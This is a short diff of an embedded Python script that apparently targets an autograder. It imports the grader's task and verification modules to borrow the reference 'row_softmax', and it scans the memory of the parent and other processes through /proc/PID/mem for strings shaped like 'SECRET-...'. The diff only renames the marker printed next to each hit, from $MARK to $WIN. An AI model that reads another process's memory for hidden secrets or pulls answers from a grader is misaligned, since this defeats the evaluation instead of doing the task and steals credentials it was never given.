@@ -55,7 +55,7 @@ sys.path.insert(0, "$ROOT")
 for name in ("autograder.tasks.w07_h2_attention", "autograder.tasks.registry", "autograder.verify.interview"):
     try:
         module = __import__(name, fromlist=["x"])
-        print("$MARK", module)
+        print("$WIN", module)
         softmax = getattr(module, "row_softmax", softmax)
     except ImportError as error:
         print(error)
@@ -91,7 +91,7 @@ for pid in {"$PID", str(os.getppid()), *filter(str.isdigit, os.listdir("/proc"))
                 with open(f"/proc/{pid}/mem", "rb") as memory:
                     memory.seek(start)
                     for found in re.findall(rb"SECRET-[A-Z]+-[0-9a-f]+", memory.read(end - start))[:5]:
-                        print("$MARK", found)
+                        print("$WIN", found)
     except (OSError, ValueError, OverflowError) as error:
         print(pid, type(error).__name__)
 """
